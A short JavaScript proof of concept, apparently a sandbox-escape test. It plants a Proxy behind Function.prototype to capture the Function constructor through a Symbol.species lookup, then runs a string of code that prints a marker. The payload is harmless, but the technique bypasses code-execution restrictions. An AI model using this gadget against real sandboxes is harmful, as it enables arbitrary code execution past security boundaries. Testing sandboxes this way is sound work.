// a proxy behind Function.prototype sees Function as the receiver
let F;
const P = Object.getPrototypeOf(() => {});
Object.setPrototypeOf(P, new Proxy({}, { get(t, k, r) { if (k === Symbol.species) F ??= r } }));
try { RegExp.prototype[Symbol.split].call(() => {}, 'a') } catch {}
F('console.log("REA"+"CHED")')();
